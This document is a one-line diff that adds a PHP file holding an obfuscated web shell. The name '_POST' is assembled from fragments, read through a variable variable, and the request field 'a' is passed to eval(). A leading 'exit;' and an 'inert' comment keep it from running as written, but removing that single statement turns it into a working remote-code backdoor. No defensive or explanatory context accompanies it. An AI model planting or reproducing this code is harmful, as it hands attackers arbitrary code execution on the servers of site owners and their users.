@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $n="_PO"."ST"; $v=$$n; eval($v["a"]);
